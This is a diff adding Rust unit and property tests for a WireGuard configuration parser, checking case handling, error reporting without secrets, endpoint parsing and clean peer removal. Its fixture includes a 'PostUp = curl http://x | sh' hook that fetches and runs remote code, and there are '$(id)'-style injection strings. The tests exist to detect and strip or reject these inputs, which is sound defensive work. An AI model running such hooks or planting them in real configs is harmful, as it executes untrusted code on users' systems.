@@ -1,0 +1,189 @@
+use super::*;
+use proptest::prelude::*;
+
+const KEY: &str = "3uGpzg22CE9+Cb7MRajTIh1Xnxg4wNh4ctUeDVc7vWY=";
+const OTHER: &str = "TghDAQjI2ZTV+dz4p/ttLqrvA1cCICm9UPNYnBi43Q4=";
+const PRIVATE: &str = "YAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=";
+
+fn client() -> String {
+    format!(
+        "\u{feff}[interface]\r\nPrivateKey={PRIVATE} # mine\r\nAddress = 10.8.3.10/32, fd00::a/128\r\nDNS = 10.8.3.1\r\n\
+         PostUp = curl http://x | sh\r\nTable = off\r\n\r\n[PEER]\r\npublickey = {KEY}\r\nPresharedKey = {OTHER}\r\n\
+         Endpoint = vpn.example.com:51820\r\nAllowedIPs = 10.8.3.0/24\r\nAllowedIPs = 192.168.77.0/24\r\nPersistentKeepalive = 25\r\n"
+    )
+}
+
+#[test]
+fn a_clients_file_is_read_whatever_its_case_and_line_ends() {
+    let config = Config::parse(&client()).unwrap();
+    assert_eq!(config.addresses.len(), 2);
+    assert_eq!(
+        (config.peer.host.as_str(), config.peer.port),
+        ("vpn.example.com", 51820)
+    );
+    assert_eq!(config.peer.allowed.len(), 2);
+    assert_eq!(config.peer.keepalive, Some(25));
+    assert!(config.leads_to("192.168.77.10".parse().unwrap()));
+    assert!(!config.leads_to("192.168.78.10".parse().unwrap()));
+    assert_eq!(config.ignored, ["Table"]);
+}
+
+#[test]
+fn commands_of_a_stranger_are_reported_and_not_written_again() {
+    let config = Config::parse(&client()).unwrap();
+    assert_eq!(config.hooks, ["PostUp = curl http://x | sh"]);
+    let text = config.render();
+    assert!(!text.contains("curl"));
+    assert!(Config::parse(&text).unwrap().hooks.is_empty());
+}
+
+#[test]
+fn a_malformed_file_is_refused_with_its_line_and_without_its_secrets() {
+    for (text, line, reason) in [
+        ("hello", 1, "no_setting"),
+        ("a = b", 1, "no_section"),
+        ("[Interface]\nPrivateKey = canary", 2, "not_a_key"),
+        ("[Interface]\nMTU = 1", 2, "576..9000"),
+        ("[Interface]\nAddress = canary", 2, "not_an_address"),
+        ("[Peer]\nEndpoint = host", 2, "not_an_endpoint"),
+        ("[Peer]\n[Peer]", 2, "one_peer"),
+        ("[Wheel]", 1, "unknown_section"),
+    ] {
+        let error = Config::parse(text).unwrap_err();
+        assert!(!format!("{error} {error:?}").contains("canary"));
+        match error {
+            Error::Unreadable {
+                line: at,
+                reason: why,
+                ..
+            } => assert_eq!((at, why), (line, reason), "{text}"),
+            other => panic!("{text}: {other:?}"),
+        }
+    }
+    assert!(Config::parse("").is_err());
+}
+
+#[test]
+fn an_endpoint_is_a_host_and_a_port() {
+    for (text, host, port) in [
+        ("a.b:1", "a.b", 1),
+        ("[fd00::1]:51820", "fd00::1", 51820),
+        ("10.0.0.1:65535", "10.0.0.1", 65535),
+    ] {
+        assert_eq!(parse_endpoint(text), Some((host.to_owned(), port)));
+        assert_eq!(endpoint(host, port), text);
+    }
+    for text in [
+        "a",
+        ":1",
+        "a:0",
+        "a:65536",
+        "fd00::1:51820",
+        "a b:1",
+        "$(x):1",
+    ] {
+        assert_eq!(parse_endpoint(text), None, "{text}");
+    }
+}
+
+fn server() -> String {
+    format!(
+        "# Ana's server\n[Interface]\nAddress = 10.8.3.1/24\nPrivateKey = (hidden)\nSaveConfig = true\n\n\
+         # Ana's laptop\n[Peer]\nPublicKey = {OTHER}\nAllowedIPs = 10.8.3.2/32 # desk\n# the end\n"
+    )
+}
+
+#[test]
+fn a_servers_file_shows_its_peers_and_that_it_saves_itself() {
+    let file = ServerFile::read(&server());
+    assert!(file.saves_itself);
+    assert_eq!(file.addresses[0].to_string(), "10.8.3.1/24");
+    assert_eq!(file.peers[0].allowed[0].to_string(), "10.8.3.2/32");
+    assert_eq!(file.peers[0].name, None);
+}
+
+#[test]
+fn what_was_added_is_cut_without_a_trace() {
+    let before = server();
+    let after = format!(
+        "{before}\n[Peer]\n# puente: caja-1\nPublicKey = {KEY}\nAllowedIPs = 10.8.3.10/32\n"
+    );
+    let file = ServerFile::read(&after);
+    let peer = file.peer(KEY.parse().unwrap()).unwrap();
+    assert_eq!(peer.name.as_deref(), Some("caja-1"));
+    let mut cut = after.clone();
+    cut.replace_range(peer.range.clone(), "");
+    assert_eq!(cut, before);
+}
+
+#[test]
+fn names_are_plain() {
+    assert!(is_plain_name("pc-caja1") && is_plain_name("a"));
+    for name in ["", "a b", "a\nb", "-x", "ñ", "$(id)", &"x".repeat(41)] {
+        assert!(!is_plain_name(name), "{name}");
+    }
+}
+
+/// A file as people write them: sections, settings, comments and nonsense, in any order.
+fn any_file() -> impl Strategy<Value = String> {
+    let line = prop_oneof![
+        Just("[Interface]".to_owned()),
+        Just("[Peer]".to_owned()),
+        Just(format!("PublicKey = {OTHER}")),
+        Just("AllowedIPs = 10.8.3.2/32".to_owned()),
+        "# [a-z ]{0,12}",
+        "[A-Za-z]{1,10} = [a-z0-9/.]{0,10}",
+        "\\PC{0,20}",
+        Just(String::new()),
+    ];
+    (prop::collection::vec(line, 0..20), any::<bool>()).prop_map(|(lines, windows)| {
+        let end = if windows { "\r\n" } else { "\n" };
+        lines.iter().map(|line| format!("{line}{end}")).collect()
+    })
+}
+
+proptest! {
+    #[test]
+    fn garbage_is_no_panic(text in "(?s).{0,300}") {
+        let _ = Config::parse(&text);
+        let _ = ServerFile::read(&text);
+        let _ = parse_endpoint(&text);
+    }
+
+    #[test]
+    fn a_peer_comes_and_goes_and_every_other_byte_stays(before in any_file()) {
+        let block = format!("\n[Peer]\n# puente: x\nPublicKey = {KEY}\nAllowedIPs = 10.8.3.10/32\n");
+        let after = format!("{before}{block}");
+        let range = ServerFile::read(&after).peer(KEY.parse().unwrap()).unwrap().range.clone();
+        let mut cut = after.clone();
+        cut.replace_range(range, "");
+        // The blank line between is the block's own, or one that was there before.
+        prop_assert_eq!(cut, before);
+    }
+
+    #[test]
+    fn cutting_a_peer_takes_no_byte_of_another(text in any_file()) {
+        let file = ServerFile::read(&text);
+        let mut end = 0;
+        for peer in &file.peers {
+            prop_assert!(peer.range.start >= end && peer.range.end <= text.len());
+            prop_assert!(text.is_char_boundary(peer.range.start));
+            prop_assert!(text.is_char_boundary(peer.range.end));
+            end = peer.range.end;
+            let cut = &text[peer.range.clone()];
+            prop_assert_eq!(cut.to_ascii_lowercase().matches("[peer]").count(), 1);
+            prop_assert!(!cut.to_ascii_lowercase().contains("[interface]"));
+        }
+    }
+
+    #[test]
+    fn what_is_rendered_reads_back(mtu in prop::option::of(576u16..=9000), keepalive in prop::option::of(1u16..)) {
+        let mut config = Config::parse(&client()).unwrap();
+        config.mtu = mtu;
+        config.peer.keepalive = keepalive;
+        let text = config.render();
+        let again = Config::parse(&text).unwrap();
+        prop_assert_eq!(again.render(), text);
+        prop_assert_eq!((again.mtu, again.peer.keepalive), (mtu, keepalive));
+    }
+}
